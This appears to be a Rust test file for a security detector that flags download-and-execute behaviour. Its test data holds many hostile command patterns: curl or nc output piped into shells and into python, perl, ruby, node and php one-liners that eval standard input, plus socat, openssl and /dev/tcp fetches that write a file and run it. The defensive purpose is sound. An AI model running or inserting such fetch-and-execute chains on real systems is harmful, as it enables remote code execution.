            x(22, "/usr/bin/ls", &["ls"], None, None),
            x(
                21,
                "/usr/bin/bash",
                &["bash", "-c", "true\ntrue"],
                None,
                None,
            ),
        ],
        vec![
            x(22, "/usr/bin/jq", &["jq", "."], Some(7), None),
            x(20, "/usr/bin/curl", &["curl", "-s", "u"], None, Some(7)),
            x(
                21,
                "/usr/bin/bash",
                &["bash", "-c", "true\ntrue"],
                None,
                None,
            ),
        ],
        vec![
            x(20, "/usr/bin/curl", &["curl", "-s", "u"], None, Some(7)),
            x(
                21,
                "/usr/bin/python3",
                &["python3", "-c", "a\nb"],
                Some(7),
                None,
            ),
        ],
        // Nothing fetched: an empty command string.
        vec![
            x(20, "/usr/bin/curl", &["curl", "-s", "u"], None, Some(7)),
            x(21, "/usr/bin/bash", &["bash", "-c", ""], None, None),
        ],
        // A child that runs a script, not a command string.
        vec![
            x(20, "/usr/bin/curl", &["curl", "-s", "u"], None, Some(7)),
            x(21, "/usr/bin/bash", &["bash", "job.sh"], None, None),
        ],
    ] {
        assert!(severity(&execs).is_empty());
    }
}

#[test]
fn shells_holding_a_captured_download_are_bounded() {
    let mut d = detector();
    for pid in 0..(pipes::MAX_CAPTURED as u32 + 10) {
        let mut e = exec(&x(
            10_000 + pid,
            "/usr/bin/curl",
            &["curl", "u"],
            None,
            Some(u64::from(pid) + 1),
        ));
        if let Event::Exec(x) = &mut e {
            x.process.ppid = 50_000 + pid;
        }
        d.process(&e, &NoLookup);
    }
    let captured = d
        .tracked()
        .into_iter()
        .find(|t| t.table == "capturedDownloads")
        .expect("tracked");
    assert_eq!(captured.entries, pipes::MAX_CAPTURED as u64);
    assert_eq!(captured.shed, 10);
}

#[test]
fn an_inline_program_that_evaluates_its_standard_input_runs_what_the_pipe_holds() {
    let curl = || {
        x(
            10,
            "/usr/bin/curl",
            &["curl", "-s", "http://h/x"],
            None,
            Some(1),
        )
    };
    for (argv, want) in [
        (
            &["python3", "-c", "import sys; exec(sys.stdin.read())"][..],
            true,
        ),
        (&["python3", "-c", "exec(open(0).read())"][..], true),
        (&["perl", "-e", "eval join('', <STDIN>)"][..], true),
        (&["ruby", "-e", "eval STDIN.read"][..], true),
        (
            &["node", "-e", "eval(require('fs').readFileSync(0, 'utf8'))"][..],
            true,
        ),
        (
            &["php", "-r", "eval(file_get_contents('php://stdin'));"][..],
            true,
        ),
        (&["sh", "-c", "eval \"$(cat)\""][..], true),
        // Data: parsed, printed, counted.
        (
            &["python3", "-c", "import sys, json; json.load(sys.stdin)"][..],
            false,
        ),
        (&["perl", "-ne", "print if /x/"][..], false),
        (&["sh", "-c", "cat > /tmp/out"][..], false),
    ] {
        let exe: &'static str = match argv[0] {
            "python3" => "/usr/bin/python3.11",
            "perl" => "/usr/bin/perl",
            "ruby" => "/usr/bin/ruby3.1",
            "node" => "/usr/bin/node",
            "php" => "/usr/bin/php8.2",
            _ => "/usr/bin/dash",
        };
        let argv: &'static [&'static str] = Box::leak(argv.to_vec().into_boxed_slice());
        let found = raised(&[curl(), x(11, exe, argv, Some(1), None)]);
        let expected = if want {
            vec![(DOWNLOAD.to_owned(), 11)]
        } else {
            Vec::new()
        };
        assert_eq!(found, expected, "{argv:?}");
    }
}

#[test]
fn a_download_in_a_script_is_not_captured_by_the_script_runner() {
    let ancestor = |pid: u32, ppid: u32| crate::event::Ancestor {
        pid,
        ppid,
        comm: "bash".into(),
        exe: Some(PathBuf::from("/usr/bin/bash")),
        uuid: format!("uuid-{pid}"),
    };
    // A runner (pid 1) runs `bash job.sh` (pid 30), whose `$(curl URL)` forks curl (31); the
    // runner's next step is `bash -c` with a script: the runner captured nothing.
    let run = |script_execd: bool| {
        let mut d = detector();
        if script_execd {
            let mut job = exec(&x(30, "/usr/bin/bash", &["bash", "job.sh"], None, None));
            if let Event::Exec(e) = &mut job {
                e.process.ppid = 1;
            }
            d.process(&job, &NoLookup);
        }
        let mut curl = exec(&x(31, "/usr/bin/curl", &["curl", "u"], None, Some(7)));
        if let Event::Exec(e) = &mut curl {
            e.process.ppid = 30;
            e.lineage = vec![ancestor(30, 1), ancestor(1, 0)].into();
        }
        d.process(&curl, &NoLookup);
        let mut step = exec(&x(32, "/usr/bin/bash", &["bash", "-c", "a\nb"], None, None));
        if let Event::Exec(e) = &mut step {
            e.process.ppid = 1;
        }
        d.process(&step, &NoLookup)
            .into_iter()
            .filter(|o| {
                o.finding
                    .context
                    .additional
                    .get("ruleId")
                    .map(String::as_str)
                    == Some(DOWNLOAD)
            })
            .count()
    };
    assert_eq!(run(true), 0, "the script exec'd: only it captured");
    // A parent that never exec'd is the grandparent's subshell (`$(curl URL | cat)`).
    assert_eq!(
        run(false),
        1,
        "a subshell of the runner: the runner captured"
    );
}

/// GTFOBins' downloads without curl (docs/EFFICACY.md, "GTFOBins through the programs installed
/// here"): a relay's output into a file, and a filter copying a socket on its standard input
/// into one, then run, are download-and-execute; the same filter reading a pipe, and a relay's
/// output to a file that is only read, are not.
#[test]
fn a_file_a_relay_or_a_socket_fed_filter_wrote_then_run_is_download_and_execute() {
    let run_after = |writer: X, socket_stdin: bool| {
        let mut d = detector();
        let Event::Exec(mut w) = exec(&writer) else {
            unreachable!()
        };
        if socket_stdin {
            w.stdio_sockets = vec![crate::event::StdioSocket {
                fd: 0,
                family: "inet",
                remote: Some("127.0.0.1:8000".parse().expect("address")),
            }];
        }
        d.process(&Event::Exec(w), &NoLookup);
        let Event::Exec(mut run) = exec(&x(40, "/srv/app/f", &["./f"], None, None)) else {
            unreachable!()
        };
        run.written_by = Some(written_by(writer.pid, "w"));
        d.process(&Event::Exec(run), &NoLookup)
            .into_iter()
            .map(|o| o.finding)
            .filter(|f| {
                f.context.additional.get("ruleId").map(String::as_str)
                    == Some("behaviour-download-exec")
            })
            .map(|f| f.context.additional["downloadedBy"].clone())
            .collect::<Vec<_>>()
    };
    let nc = x(
        30,
        "/usr/bin/nc.openbsd",
        &["nc", "127.0.0.1", "8000"],
        None,
        None,
    );
    assert_eq!(run_after(nc, false), ["/usr/bin/nc.openbsd"]);
    let openssl = x(
        31,
        "/usr/bin/openssl",
        &[
            "openssl",
            "s_client",
            "-quiet",
            "-connect",
            "127.0.0.1:8443",
        ],
        None,
        None,
    );
    assert_eq!(run_after(openssl, false), ["/usr/bin/openssl"]);
    let socat = x(
        32,
        "/usr/bin/socat",
        &["socat", "-u", "tcp-connect:127.0.0.1:8000", "open:f,creat"],
        None,
        None,
    );
    assert_eq!(run_after(socat, false), ["/usr/bin/socat"]);
    let cat = || x(33, "/usr/bin/cat", &["cat"], None, None);
    assert_eq!(run_after(cat(), true), ["/usr/bin/cat"]);
    // Benign twins: cat copying a pipe or a file, openssl not as a client.
    assert!(run_after(cat(), false).is_empty());
    let openssl_enc = x(
        34,
        "/usr/bin/openssl",
        &["openssl", "enc", "-aes-256-cbc", "-in", "a", "-out", "f"],
        None,
        None,
    );
    assert!(run_after(openssl_enc, false).is_empty());
}

#[test]
fn only_a_filter_writing_into_a_pipe_has_its_operands_looked_at_for_a_fifo() {
    let b = crate::detect::RuleSet::builtin().expect("built-in rules");
    let b = b.behaviour();
    let operands = |e: &X| match exec(e) {
        Event::Exec(e) => super::pipes::fifo_operands(b, &e)
            .into_iter()
            .map(str::to_owned)
            .collect::<Vec<_>>(),
        _ => unreachable!("an exec"),
    };
    assert_eq!(
        operands(&x(
            1,
            "/usr/bin/cat",
            &["cat", "-u", "f", "g"],
            None,
            Some(1)
        )),
        ["f", "g"]
    );
    assert_eq!(
        operands(&x(
            1,
            "/usr/bin/dd",
            &["dd", "if=/tmp/f", "bs=1"],
            None,
            Some(1)
        )),
        ["/tmp/f", "bs=1"]
    );
    assert_eq!(
        operands(&x(
            1,
            "/usr/bin/tail",
            &["tail", "-f", "a", "b", "c", "d", "e"],
            None,
            Some(1)
        )),
        ["a", "b", "c", "d"]
    );
    // Not a filter, no pipe to write into, or a pipe on standard input already.
    assert!(operands(&x(1, "/usr/bin/ls", &["ls", "f"], None, Some(1))).is_empty());
    assert!(operands(&x(1, "/usr/bin/cat", &["cat", "f"], None, None)).is_empty());
    assert!(operands(&x(1, "/usr/bin/cat", &["cat", "f"], Some(2), Some(1))).is_empty());
}

#[test]
fn a_file_a_filter_wrote_from_a_downloaded_pipe_then_run_is_download_and_execute() {
    // The execs in order, then `./f` run, written by pid 21 (the filter writing the file).
    let run_after = |execs: &[X]| {
        let mut d = detector();
        for e in execs {
            d.process(&exec(e), &NoLookup);
        }
        let Event::Exec(mut run) = exec(&x(40, "/srv/app/f", &["./f"], None, None)) else {
            unreachable!()
        };
        run.written_by = Some(written_by(21, "sed"));
        d.process(&Event::Exec(run), &NoLookup)
            .into_iter()
            .map(|o| o.finding)
            .filter(|f| {
                f.context.additional.get("ruleId").map(String::as_str)
                    == Some("behaviour-download-exec")
            })
            .map(|f| {
                (
                    f.context.additional["downloadedBy"].clone(),
                    f.context.additional["downloaderCommandLine"].clone(),
                )
            })
            .collect::<Vec<_>>()
    };
    let nc = || {
        x(
            20,
            "/usr/bin/nc.openbsd",
            &["nc", "h", "80"],
            None,
            Some(50),
        )
    };
    let sed = || x(21, "/usr/bin/sed", &["sed", "1,/^\\r$/d"], Some(50), None);
    let expected = [(
        "/usr/bin/nc.openbsd".to_owned(),
        "nc h 80 | sed 1,/^\\r$/d".to_owned(),
    )];
    assert_eq!(run_after(&[nc(), sed()]), expected, "relay first");
    assert_eq!(run_after(&[sed(), nc()]), expected, "filter first");
    // Through another filter, and from a downloader.
    let curl = x(20, "/usr/bin/curl", &["curl", "-s", "u"], None, Some(51));
    let tr = x(22, "/usr/bin/tr", &["tr", "-d", "x"], Some(51), Some(52));
    let tee = x(21, "/usr/bin/tee", &["tee", "f"], Some(52), None);
    assert_eq!(run_after(&[tee, curl, tr]).len(), 1, "curl | tr | tee f");
    // Benign twin: a filter fed by a program that is no downloader.
    let local = x(
        20,
        "/usr/bin/python3",
        &["python3", "gen.py"],
        None,
        Some(53),
    );
    let sed_local = x(21, "/usr/bin/sed", &["sed", "s/a/b/"], Some(53), None);
    assert!(run_after(&[local, sed_local]).is_empty());
}

/// The `/dev/tcp` download function of TeamTNT's and Kinsing's scripts (`__curl URL | sh`): a
/// forked subshell opens the connection and `cat <&3` copies the reply into the pipe `sh` reads.
/// No inline program connects out; the filter's standard input is the socket. The same filter
/// reading a unix socket, or a socket-fed `cat` piped into `grep`, runs nothing fetched.
#[test]
fn a_filter_reading_an_ip_socket_into_a_shell_is_download_and_execute() {
    let cat_into = |family: &'static str, reader: &X| {
        let Event::Exec(mut cat) = exec(&x(30, "/usr/bin/cat", &["cat"], None, Some(7))) else {
            unreachable!()
        };
        cat.stdio_sockets = vec![crate::event::StdioSocket {
            fd: 0,
            family,
            remote: (family == "inet").then(|| "127.0.0.1:8000".parse().expect("address")),
        }];
        raised_by(&[exec(reader), Event::Exec(cat)])
    };
    let sh = x(31, "/usr/bin/dash", &["sh"], Some(7), None);
    assert_eq!(
        cat_into("inet", &sh),
        [("behaviour-download-pipe-exec".to_owned(), 31)]
    );
    assert!(cat_into("unix", &sh).is_empty());
    let grep = x(31, "/usr/bin/grep", &["grep", "x"], Some(7), None);
    assert!(cat_into("inet", &grep).is_empty());
}
